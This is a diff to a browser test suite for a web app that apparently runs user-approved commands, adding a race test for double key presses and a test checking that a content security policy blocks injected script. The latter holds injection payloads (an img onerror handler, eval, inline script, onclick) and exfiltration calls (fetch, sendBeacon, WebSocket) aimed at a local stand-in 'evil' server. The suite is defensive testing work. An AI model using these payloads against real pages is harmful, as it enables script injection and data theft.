@@ -208,6 +208,17 @@ test('two tabs decide the same question, and one of them is told', async (t) => 
   assert.deepEqual(decision, [200, 409]);
   await Promise.all([turn(one, 2), turn(other, 2)]);
   assert.equal(fs.readFileSync(path.join(base, 'workspace/count.txt'), 'utf8'), 'once\n');
+
+  // Both press the key at the same time: one decision counts, and nobody is left with a question that is gone.
+  await paste(one, `[RUN_COMMAND]\necho twice >> count.txt\n[/RUN_COMMAND]${mark(id, 2)}`);
+  await Promise.all([asked(one), asked(other)]);
+  await Promise.all([readIt(one), readIt(other)]);
+  const press = (page, key) => page.evaluate((value) => document.body.dispatchEvent(new KeyboardEvent('keydown', { key: value, bubbles: true })), key);
+  await Promise.all([press(one, 's'), press(other, 's')]);
+  for (const page of [one, other]) await page.locator('h2', { hasText: 'Round 3: your turn' }).waitFor();
+  const told = await Promise.all([one, other].map((page) => page.getByText('That did not work').count()));
+  assert.equal(told[0] + told[1] <= 1, true);
+  assert.equal(fs.readFileSync(path.join(base, 'workspace/count.txt'), 'utf8'), 'once\n');
 });
 
 test('a hostile reply is text', async (t) => {
@@ -351,4 +362,55 @@ test('other pages and other names get nothing', async (t) => {
   assert.equal(fs.existsSync(path.join(base, 'sessions')), false, 'no session was begun');
   const own = await open(t, link);
   await own.getByRole('heading', { name: 'New session' }).or(own.getByRole('heading', { name: 'Sessions' })).waitFor();
+});
+
+test('a hole in the page would run nothing and tell nobody', async (t) => {
+  const { base } = place();
+  const { address } = await serve(t, base);
+  let heard = 0;
+  const evil = http.createServer((request, response) => { heard += 1; response.setHeader('access-control-allow-origin', '*'); response.end('x'); });
+  await new Promise((resolve) => { evil.listen(0, '127.0.0.1', resolve); });
+  t.after(() => evil.close());
+  const elsewhere = `http://127.0.0.1:${evil.address().port}/`;
+  const attack = (target) => new Promise((resolve) => {
+    // Later, because what the tests call themselves is not held by the policy.
+    setTimeout(async () => {
+      const tried = async (action) => { try { return (await action()) ?? 'done'; } catch (error) { return error.name; } };
+      const loaded = (tag, address) => new Promise((settle) => {
+        const element = document.createElement(tag);
+        element.onload = () => settle('loaded');
+        element.onerror = () => settle('blocked');
+        document.body.append(element);
+        element.src = address;
+      });
+      const result = {
+        html: await tried(() => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.owned=1">'); }),
+        evaluate: await tried(() => { (0, eval)('window.owned=1'); }),
+        inline: await tried(() => { const script = document.createElement('script'); script.textContent = 'window.owned=1'; document.body.append(script); }),
+        handler: await tried(() => { document.body.setAttribute('onclick', 'window.owned=1'); document.body.click(); }),
+        fetched: await tried(() => fetch(target).then(() => 'fetched')),
+        beacon: await tried(() => String(navigator.sendBeacon(target, 'x'))),
+        socket: await tried(() => new Promise((settle) => { const socket = new WebSocket(target.replace('http', 'ws')); socket.onopen = () => settle('open'); socket.onerror = () => settle('blocked'); })),
+        picture: await tried(() => loaded('img', target)),
+      };
+      await new Promise((settle) => { setTimeout(settle, 200); });
+      resolve({ ...result, owned: window.owned ?? null });
+    });
+  });
+  const context = await browser.newContext();
+  t.after(() => context.close());
+  const page = await context.newPage();
+  await page.goto(address);
+  const blocked = await page.evaluate(attack, elsewhere);
+  const { beacon, inline, handler, ...rest } = blocked;
+  assert.deepEqual(rest, { html: 'TypeError', evaluate: 'EvalError', fetched: 'TypeError', socket: 'blocked', picture: 'blocked', owned: null });
+  assert.equal(heard, 0, JSON.stringify({ beacon, inline, handler }));
+  // A page without the policy is open to all of it.
+  const open = http.createServer((request, response) => { response.setHeader('content-type', 'text/html'); response.end('<body>'); });
+  await new Promise((resolve) => { open.listen(0, '127.0.0.1', resolve); });
+  t.after(() => open.close());
+  await page.goto(`http://127.0.0.1:${open.address().port}/`);
+  const free = await page.evaluate(attack, elsewhere);
+  assert.deepEqual([free.html, free.evaluate, free.fetched, free.owned], ['done', 'done', 'fetched', 1]);
+  assert.equal(heard > 0, true);
 });
